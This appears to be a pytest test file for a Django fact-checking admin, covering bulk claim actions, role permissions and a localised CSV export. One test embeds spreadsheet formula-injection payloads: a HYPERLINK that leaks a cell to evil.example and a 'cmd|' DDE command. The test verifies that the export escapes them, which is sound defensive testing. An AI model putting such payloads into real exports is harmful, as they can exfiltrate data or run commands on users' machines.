"""Bulk work on the claim list: assign, tag, send to review, re-check the sources; and the list as a CSV file."""

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from claims.errors import InvalidInput
from claims.models import Claim, ClaimStatus, Source
from claims.services.claims import claim_update, claims_assign
from tests.factories import ClaimFactory, EvidenceFactory, UserFactory

S = ClaimStatus
LIST = "admin:claims_claim_changelist"
ACTIONS = ["assign_selected", "tag_selected", "send_selected_to_review", "recheck_selected_sources"]


def messages_of(response):
    return [str(m) for m in response.context["messages"]]


def act(client, action, claims, follow=True, **data):
    """The action run on these claims from the list, as the action bar posts it (with its page's form, if any)."""
    payload = {"action": action, "_selected_action": [claim.pk for claim in claims], **data}
    if data:
        payload.pop("index", None)
    else:
        payload["index"] = 0
    return client.post(reverse(LIST), payload, follow=follow)


# --- Who is offered what ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("role", "offered"),
    [
        ("viewer", []),
        ("researcher", ACTIONS),
        ("editor", ["delete_selected", *ACTIONS]),
    ],
)
def test_each_role_is_offered_only_the_actions_it_may_take(client, users, role, offered):
    ClaimFactory()
    client.force_login(users[role])
    response = client.get(reverse(LIST))
    choices = (
        [value for value, _label in response.context["action_form"].fields["action"].choices if value]
        if offered
        else []
    )
    assert choices == offered
    assert ('name="_selected_action"' in response.content.decode()) is bool(offered)


def test_a_viewer_cannot_run_an_action_by_posting_it(client, viewer, researcher, make_claim):
    claim = make_claim(S.RESEARCHING)
    client.force_login(viewer)
    act(client, "assign_selected", [claim], apply="1", assignee=researcher.pk)
    act(client, "send_selected_to_review", [claim])
    claim.refresh_from_db()
    assert (claim.assignee, claim.status) == (None, S.RESEARCHING)


# --- Assign ----------------------------------------------------------------------------------------


def test_assigning_asks_to_whom_then_assigns_each_claim_it_may(client, editor, researcher, viewer, make_claim):
    draft, published = ClaimFactory(text="Un brouillon"), make_claim(S.PUBLISHED)
    client.force_login(editor)
    page = act(client, "assign_selected", [draft, published], follow=False)
    content = page.content.decode()
    assert page.status_code == 200 and "Un brouillon" in content and str(published) in content
    # Only desk members who work on claims are offered: the viewer is not.
    assert f'<option value="{researcher.pk}">researcher</option>' in content
    assert f'<option value="{viewer.pk}">' not in content

    versions = {claim.pk: claim.version for claim in (draft, published)}
    response = act(client, "assign_selected", [draft, published], apply="Assign", assignee=researcher.pk)
    assert messages_of(response) == ["2 claims are now assigned to researcher."]
    for claim in (draft, published):
        claim.refresh_from_db()
        assert (claim.assignee, claim.version) == (researcher, versions[claim.pk] + 1)
        assert claim.history.latest().history_user == editor


def test_a_researcher_assigns_the_claims_it_may_edit_and_is_told_why_not_the_others(client, researcher, make_claim):
    draft, published = make_claim(S.DRAFT), make_claim(S.PUBLISHED)
    client.force_login(researcher)
    response = act(client, "assign_selected", [draft, published], apply="Assign", assignee=researcher.pk)
    assert messages_of(response) == [
        "1 claim is now assigned to researcher.",
        f"Not assigned: “{published}”. Your role cannot edit a claim that is published.",
    ]
    draft.refresh_from_db(), published.refresh_from_db()
    assert (draft.assignee, published.assignee) == (researcher, None)


def test_assigning_many_claims_takes_as_many_queries_as_assigning_a_few(client, editor, researcher):
    client.force_login(editor)
    few = [ClaimFactory() for _ in range(2)]
    with CaptureQueriesContext(connection) as queries_for_few:
        act(client, "assign_selected", few, follow=False, apply="Assign", assignee=researcher.pk)
    many = [ClaimFactory() for _ in range(30)]
    with CaptureQueriesContext(connection) as queries_for_many:
        act(client, "assign_selected", many, follow=False, apply="Assign", assignee=researcher.pk)
    assert len(queries_for_many.captured_queries) == len(queries_for_few.captured_queries)
    assert Claim.objects.filter(assignee=researcher).count() == 32


# --- Tag -------------------------------------------------------------------------------------------


def test_tagging_adds_the_tags_and_keeps_the_others(client, researcher):
    tagged, bare = ClaimFactory(), ClaimFactory()
    tagged.tags.set(["deepseek"])
    client.force_login(researcher)
    response = act(client, "tag_selected", [tagged, bare], apply="Add the tags", tags="ia, Chine")
    assert messages_of(response) == ["2 claims are tagged Chine, ia."]
    assert sorted(tagged.tags.names()) == ["Chine", "deepseek", "ia"]
    assert sorted(bare.tags.names()) == ["Chine", "ia"]
    tagged.refresh_from_db()
    assert tagged.version == 2


def test_tagging_without_a_tag_asks_again(client, researcher):
    claim = ClaimFactory()
    client.force_login(researcher)
    response = act(client, "tag_selected", [claim], follow=False, apply="Add the tags", tags=" , ")
    assert response.status_code == 200
    assert "Name at least one tag." in response.content.decode()
    assert not claim.tags.exists()


def test_tagging_many_claims_takes_as_many_queries_as_tagging_a_few(client, editor):
    client.force_login(editor)
    few, many = [ClaimFactory() for _ in range(2)], [ClaimFactory() for _ in range(30)]
    # Tags made once, by a first use: then reused.
    act(client, "tag_selected", [ClaimFactory()], follow=False, apply="Add", tags="ia, chine")
    with CaptureQueriesContext(connection) as queries_for_few:
        act(client, "tag_selected", few, follow=False, apply="Add", tags="ia, chine")
    with CaptureQueriesContext(connection) as queries_for_many:
        act(client, "tag_selected", many, follow=False, apply="Add", tags="ia, chine")
    assert len(queries_for_many.captured_queries) == len(queries_for_few.captured_queries)


# --- Send to review --------------------------------------------------------------------------------


def test_sending_to_review_moves_the_ready_claims_and_says_why_each_other_was_refused(client, researcher, make_claim):
    ready = make_claim(S.RESEARCHING)
    unrated = make_claim(S.RESEARCHING)
    claim_update(claim=unrated, by=researcher, changes={"rating": None})
    draft = make_claim(S.DRAFT)
    client.force_login(researcher)
    response = act(client, "send_selected_to_review", [ready, unrated, draft])
    assert messages_of(response) == [
        "1 claim was sent to review.",
        f"Not sent to review: “{unrated}”. Set a rating before sending the claim to review.",
        f"Not sent to review: “{draft}”. A claim that is draft cannot become in review. It can become: researching, "
        "rejected.",
    ]
    statuses = dict(Claim.objects.values_list("pk", "status"))
    assert (statuses[ready.pk], statuses[unrated.pk], statuses[draft.pk]) == (S.IN_REVIEW, S.RESEARCHING, S.DRAFT)
    # The move is the workflow's: with its transition, by whom.
    assert ready.transitions.latest("at").by == researcher
    assert not unrated.transitions.filter(to_status=S.IN_REVIEW).exists()


def test_refusals_are_said_in_the_editors_language(client, researcher, make_claim):
    draft = make_claim(S.DRAFT)
    client.force_login(researcher)
    response = client.post(
        reverse(LIST),
        {"action": "send_selected_to_review", "_selected_action": [draft.pk], "index": 0},
        follow=True,
        HTTP_ACCEPT_LANGUAGE="fr",
    )
    (message,) = messages_of(response)
    assert message == (
        f"Pas envoyée en relecture\xa0: «\xa0{draft}\xa0». Une affirmation au statut «\xa0brouillon\xa0» ne peut pas "
        "passer au statut «\xa0en relecture\xa0». Statuts possibles\xa0: en vérification, rejetée."
    )


def test_past_ten_refusals_they_are_counted(client, researcher):
    drafts = [ClaimFactory() for _ in range(13)]
    client.force_login(researcher)
    response = act(client, "send_selected_to_review", drafts)
    messages = messages_of(response)
    assert len(messages) == 11
    assert messages[-1] == "And 3 more claims were refused."


# --- Re-check the sources -------------------------------------------------------------------------


def test_the_sources_of_the_selected_claims_are_checked_in_one_go(
    client, researcher, published_tasks, django_capture_on_commit_callbacks
):
    later = timezone.now() + timedelta(days=1)
    claims = [ClaimFactory() for _ in range(3)]
    cited = [EvidenceFactory(claim=claim, source__next_check_at=later).source for claim in claims[:2]]
    EvidenceFactory(claim=claims[1], source=cited[0])
    elsewhere = EvidenceFactory(source__next_check_at=later).source
    client.force_login(researcher)
    with django_capture_on_commit_callbacks(execute=True):
        response = act(client, "recheck_selected_sources", claims)
    assert messages_of(response) == ["The 2 sources they cite will be checked in a moment."]
    # One dispatch for all of them, not one per source.
    assert published_tasks == [("claims.sources.tasks.sources_dispatch_task", "checks")]
    due = {source.pk: source.next_check_at < later for source in Source.objects.all()}
    assert due == {cited[0].pk: True, cited[1].pk: True, elsewhere.pk: False}


# --- The list as a CSV file -------------------------------------------------------------------------

EXPORT = "admin:claims_claim_export"


def read_csv(response, delimiter=","):
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="claims-')
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:]), delimiter=delimiter))


def test_the_export_has_the_lists_filters_and_search(client, editor, make_claim):
    published = make_claim(S.PUBLISHED, text="DeepSeek a siphonné ChatGPT", claimant="Sam Altman")
    make_claim(S.PUBLISHED, text="Une autre affirmation publiée")
    make_claim(S.DRAFT, text="DeepSeek a siphonné un brouillon")
    published.tags.set(["ia"])
    client.force_login(editor)
    listed = client.get(reverse(LIST), {"status__exact": "published", "q": "siphonné"}).content.decode()
    assert f'href="{reverse(EXPORT)}?q=siphonn%C3%A9&amp;status__exact=published"' in listed

    rows = read_csv(client.get(reverse(EXPORT), {"status__exact": "published", "q": "siphonné"}))
    header, *claims = rows
    assert header == [
        "ID",
        "Claim",
        "Claimant",
        "Claim date",
        "Appearance URL",
        "Language",
        "Status",
        "Rating",
        "Open flags",
        "Tags",
        "Assignee",
        "Created at",
        "Updated at",
        "Last published at",
    ]
    assert len(claims) == 1
    row = dict(zip(header, claims[0], strict=True))
    assert row["ID"] == str(published.pk)
    assert (row["Claim"], row["Claimant"], row["Status"], row["Rating"], row["Tags"]) == (
        "DeepSeek a siphonné ChatGPT",
        "Sam Altman",
        "Published",
        "False",
        "ia",
    )
    assert row["Claim date"] == "2025-01-29"
    assert row["Last published at"] == timezone.localtime(published.published_at).strftime("%Y-%m-%d %H:%M")


def test_the_export_speaks_french_to_a_french_editor(client, editor, make_claim):
    make_claim(S.IN_REVIEW)
    client.force_login(editor)
    header, row = read_csv(client.get(reverse(EXPORT), HTTP_ACCEPT_LANGUAGE="fr"), delimiter=";")
    assert header == [
        "ID",
        "Affirmation",
        "Auteur de l’affirmation",
        "Date de l’affirmation",
        "Adresse de publication",
        "Langue",
        "Statut",
        "Verdict",
        "Alertes ouvertes",
        "Mots-clés",
        "Responsable",
        "Date de création",
        "Date de mise à jour",
        "Dernière publication",
    ]
    row = dict(zip(header, row, strict=True))
    assert (row["Statut"], row["Verdict"]) == ("En relecture", "Faux")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_kept_as_text(client, editor, start):
    formula = f'{start}HYPERLINK("https://evil.example/?leak="&A1;"Cliquez")'
    ClaimFactory(text=formula, claimant=f"{start}cmd|' /C calc'!A0")
    client.force_login(editor)
    _header, row = read_csv(client.get(reverse(EXPORT)))
    assert row[1] == f"'{formula}"
    assert row[2] == f"'{start}cmd|' /C calc'!A0"


@pytest.mark.parametrize(("role", "status"), [("viewer", 200), ("outsider", 403)])
def test_only_desk_readers_export(client, users, role, status):
    ClaimFactory()
    client.force_login(users[role])
    assert client.get(reverse(EXPORT)).status_code == status


def test_signed_out_the_export_sends_to_the_sign_in_page(client):
    response = client.get(reverse(EXPORT))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("admin:login"))


def test_the_export_reads_the_claims_in_a_fixed_number_of_queries(client, editor, django_assert_max_num_queries):
    assignees = [UserFactory(role="researcher") for _ in range(3)]
    claims = [ClaimFactory(assignee=assignees[n % 3]) for n in range(40)]
    for claim in claims[:10]:
        claim.tags.set(["ia"])
    client.force_login(editor)
    with django_assert_max_num_queries(15):
        response = client.get(reverse(EXPORT))
        rows = read_csv(response)
    assert len(rows) == 41


def test_a_claim_goes_only_to_someone_who_works_on_claims(client, editor, viewer, make_claim):
    claim = make_claim(ClaimStatus.RESEARCHING)
    with pytest.raises(InvalidInput) as refused:
        claims_assign(claim_ids=[claim.pk], assignee=viewer, by=editor)
    assert refused.value.code == "assignee_without_role"
    with pytest.raises(InvalidInput):
        claim_update(claim=claim, by=editor, changes={"assignee": viewer})
    claim.refresh_from_db()
    assert claim.assignee is None


def test_a_published_fact_check_is_handed_over_alike_on_its_page_and_in_bulk(editor, researcher, make_claim):
    """Who works on it is the desk's business: a quote gone missing since does not hold the handover back."""
    published = make_claim(ClaimStatus.PUBLISHED)
    published.evidence.update(quote_status="missing")
    claim_update(claim=published, by=editor, changes={"assignee": researcher})
    outcome = claims_assign(claim_ids=[published.pk], assignee=editor, by=editor)
    assert outcome.refused == [] and Claim.objects.get(pk=published.pk).assignee == editor
